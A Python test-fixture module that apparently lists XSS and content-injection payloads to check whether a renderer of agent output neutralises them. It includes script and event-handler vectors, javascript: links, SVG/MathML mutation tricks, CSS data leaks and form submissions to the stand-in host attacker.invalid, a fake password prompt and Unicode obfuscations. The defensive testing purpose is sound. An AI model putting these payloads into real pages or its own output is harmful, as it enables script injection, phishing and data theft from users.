"""What an agent could write, or be made to write by a page that it read: it tries to run, to load, or to pass for ours."""

HOST = "http://attacker.invalid"
"""Nobody may ever be asked for anything there."""

SCRIPTS = [
    "<script>window.ran = 1</script>",
    "<ScRiPt>window.ran = 1</sCrIpT>",
    "<script src=//attacker.invalid/x.js></script>",
    "<script\n>window.ran = 1</script\n>",
    "<<script>window.ran = 1//<</script>",
    "<script>/*<!--*/window.ran = 1</script>",
    "</p></div></main><script>window.ran = 1</script>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'></noscript>",
]

HANDLERS = [
    "<img src=x onerror='window.ran = 2'>",
    "<img src=x:x onerror\n=\nwindow.ran=2>",
    "<img/src=x/onerror=window.ran=2>",
    "<IMG SRC=x OnErRoR=window.ran=2>",
    "<img src=\"x\" one\x00rror='window.ran=2'>",
    "<body onload='window.ran = 2' onpageshow='window.ran = 2'>",
    "<details open ontoggle='window.ran = 2'><summary>x</summary></details>",
    "<video src=x onerror='window.ran = 2'></video><audio src=x onerror='window.ran = 2'></audio>",
    "<video><source onerror='window.ran = 2'></video>",
    "<input autofocus onfocus='window.ran = 2'>",
    "<select autofocus onfocus='window.ran = 2'></select><textarea autofocus onfocus='window.ran = 2'></textarea>",
    "<marquee onstart='window.ran = 2'>x</marquee>",
    "<b onmouseover='window.ran = 2' onclick='window.ran = 2' tabindex=1 onfocus='window.ran=2' autofocus>x</b>",
    "<xss id=x style='animation: pulse 1s' onanimationstart='window.ran = 2'></xss>",
    "<div style='transition: all 1s; color: red' ontransitionend='window.ran = 2'>x</div>",
    "<button popovertarget=p onclick='window.ran = 2'>x</button><div popover id=p onbeforetoggle='window.ran = 2'>y</div>",
]

LINKS = [
    "<a href='javascript:window.ran = 3'>x</a>",
    "[x](javascript:window.ran=3)",
    "[x](  JaVaScRiPt:window.ran=3)",
    "[x](JaVaScRiPt&colon;window.ran=3 'title')",
    "[x](java&#10;script:window.ran=3)",
    "[x](java\tscript:window.ran=3)",
    "[x](\x01javascript:window.ran=3)",
    "[x](javascript&#x3A;window.ran=3)",
    "[x](javascript%3Awindow.ran=3)",
    "[x](vbscript:window.ran=3)",
    "[x](data:text/html,<script>opener.ran=3</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucmFuPTM8L3NjcmlwdD4=)",
    "[x](blob:http://attacker.invalid/1)",
    "[x](file:///etc/passwd)",
    "[x](//attacker.invalid/same-scheme)",
    "[x]: javascript:window.ran=3\n\n[x]",
    "<javascript:window.ran=3>",
    '[x](https://ok.invalid "a" onmouseover="window.ran=3")',
    "[x](https://ok.invalid '\"><img src=x onerror=window.ran=3>')",
    '<https://ok.invalid/"onmouseover="window.ran=3>',
    "https://ok.invalid/'onclick='window.ran=3",
    "![x](javascript:window.ran=3)",
    '![x](x"onerror="window.ran=3)',
    f"![x]({HOST}/pixel.png)",
    f"<img srcset='{HOST}/a.png 1x' src='{HOST}/b.png' loading=eager>",
    f"![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{HOST}/i.png'/><script>parent.ran=3</script></svg>)",
    f"<a href=https://ok.invalid ping={HOST}/ping target=_self rel=opener>x</a>",
    "<map name=m><area href='javascript:window.ran=3' shape=default></map><img usemap=#m src=data:image/gif;base64,R0lGODlhAQABAAAAACw=>",
]

FOREIGN = [
    "<svg onload='window.ran = 4'><animate onbegin='window.ran = 4' attributeName=x dur=1s></svg>",
    "<svg><script>window.ran = 4</script></svg>",
    "<svg><a xlink:href='javascript:window.ran=4'><text x=9 y=9>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values='javascript:window.ran=4'/><a id=x><text>x</text></a></svg>",
    f"<svg><use href='{HOST}/s.svg#x'/><image href='{HOST}/i.png'/><foreignObject><iframe src='{HOST}'/></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=window.ran=4></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=4>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=4&gt;">',
    "<math href='javascript:window.ran=4'><mi xlink:href='javascript:window.ran=4'>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=window.ran=4></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img onerror=window.ran=4 src>",
    "<svg></p><style><a id='</style><img src=1 onerror=window.ran=4>'>",
    "<table><td></tr><svg><desc><table><input type=hidden><style></table><img src=x onerror=window.ran=4></style>",
    "<select><template><style></select><img src=x onerror=window.ran=4></template>",
]

FRAMES = [
    "<iframe srcdoc='<script>parent.ran = 5</script>'></iframe>",
    f"<iframe src='{HOST}'></iframe><frame src='{HOST}'><frameset onload='window.ran=5'><frame src='{HOST}'></frameset>",
    "<object data='javascript:window.ran=5'></object><embed src='javascript:window.ran=5'><applet code=x></applet>",
    f"<portal src='{HOST}'></portal><fencedframe></fencedframe>",
    f"<base href='{HOST}/'>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    f"<link rel=stylesheet href='{HOST}/x.css'><link rel=import href='{HOST}'><link rel=prefetch href='{HOST}/p'>",
    f"<form action='{HOST}' target=_top><input name=token><button>go</button></form><button formaction='{HOST}' form=f>x</button>",
    "<form action='javascript:window.ran=5'><input type=image src=x onerror=window.ran=5></form>",
    "<dialog open style='position:fixed;inset:0' onclose='window.ran=5'>Sign in again: <input type=password></dialog>",
    "<template shadowrootmode=open><img src=x onerror='window.ran = 5'></template><slot onslotchange='window.ran=5'></slot>",
]

STYLES = [
    f"<style>*{{display:none!important}} body{{background:url({HOST}/bg)}} @import '{HOST}/x.css'; @font-face{{font-family:x;src:url({HOST}/f)}}</style>",
    f"<div style=\"background:url('{HOST}/leak');position:fixed;inset:0;z-index:9999\" class='fixed inset-0' id=root>x</div>",
    f"<p style='list-style-image:url({HOST}/li)' class=sr-only hidden inert>hidden words</p>",
    f"<input value=secret><style>input[value^=s]{{background:url({HOST}/s)}}</style>",
    f"<video poster='{HOST}/poster'></video><table background='{HOST}/t'><td background='{HOST}/td'>x</table><body background='{HOST}/b'>",
    "<font color=red size=7 face=x>big</font><center>c</center><blink>b</blink>",
]

CLOBBER = [
    "<form name=body></form><img name=getElementById><a id=location href=https://ok.invalid></a><a id=antiphon name=antiphon>",
    "<div id=root data-testid=approval-option-allow-once>clobbered</div><p id=__proto__ name=constructor>",
    "{{constructor.constructor('window.ran=6')()}} ${window.ran=6} #{window.ran=6} <%= window.ran=6 %>",
    "[object Object] __proto__ constructor",
]

FENCES = [
    "```html\n<img src=x onerror=window.ran=7>\n```",
    '```"><img src=x onerror=window.ran=7>\nx\n```',
    '```js onload=window.ran=7 " onmouseover="window.ran=7\nx\n```',
    "```__proto__\n<script>window.ran=7</script>\n```",
    "`<img src=x onerror=window.ran=7>`",
    "~~~\n</code></pre><img src=x onerror=window.ran=7>\n~~~",
    "    <script>window.ran=7</script>",
    "```html\n<img src=x onerror=window.ran=7>",
    "| <img src=x onerror=window.ran=7> | [x](javascript:window.ran=7) |\n|---|---|\n| <svg/onload=window.ran=7> | `<b onclick=window.ran=7>` |",
    "- [x] <img src=x onerror=window.ran=7>\n- [ ] [y](javascript:window.ran=7)\n\n> <iframe src=javascript:window.ran=7>",
    "# <img src=x onerror=window.ran=7>\n\n<img src=x onerror=window.ran=7>\n===",
    "**<img src=x onerror=window.ran=7>** _<svg onload=window.ran=7>_ ~~<b onclick=window.ran=7>~~ \\<img src=x onerror=window.ran=7\\>",
]

UNICODE = [
    "\uff1cscript\uff1ewindow.ran = 8\uff1c/script\uff1e \u2039img src=x onerror=window.ran=8\u203a",
    "\u202e<script>window.ran = 8</script>\u202c gnp.exe",
    "<img src=x onerror=\u2028window.ran=8\u2029>",
    "<\u0130mg src=x onerror=window.ran=8> <\u017fcript>window.ran = 8</\u017fcript>",
    "&lt;img src=x onerror=window.ran=8&gt; &#60;script&#62;window.ran=8&#60;/script&#62; &#x26;lt;script&#x26;gt;",
    "+ADw-script+AD4-window.ran=8+ADw-/script+AD4-",
    "\ufeff\u200b<scr\u200bipt>window.ran = 8</scr\u200bipt>\u0000<img src=x onerror=window.ran=8>",
    "\x1b]8;;javascript:window.ran=8\x07x\x1b]8;;\x07\x1b[31m<img src=x onerror=window.ran=8>\x1b[0m",
    "<img src=x onerror=window.ran=8 //\ud7ff\ue000\U0001f600",
]

PAYLOADS = [*SCRIPTS, *HANDLERS, *LINKS, *FOREIGN, *FRAMES, *STYLES, *CLOBBER, *FENCES, *UNICODE]
